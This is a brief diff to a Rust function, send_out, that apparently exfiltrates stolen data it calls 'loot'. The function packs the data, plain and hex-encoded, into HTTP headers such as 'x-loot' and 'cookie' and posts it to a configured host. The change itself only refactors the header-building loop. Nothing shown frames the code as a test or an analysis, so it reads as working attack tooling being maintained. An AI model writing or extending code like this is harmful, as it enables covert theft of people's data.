@@ -63,7 +63,9 @@ fn send_out(config: &Configuration, loot: &str) {
     for names in [["x-loot", "cookie"], ["user-agent", "accept-language"]] {
         let fields = Fields::new();
         let _ = fields.append("content-type", b"application/json");
-        names.iter().zip([&plain, &hex]).for_each(|(name, text)| drop(fields.append(name, short(text).as_bytes())));
+        for (name, text) in names.iter().zip([&plain, &hex]) {
+            let _ = fields.append(name, short(text).as_bytes());
+        }
         post(config, fields, &format!("\"{}\"", short(&plain).replace(['"', '\\'], "")));
     }
     // And a sign-in of its own in a body.
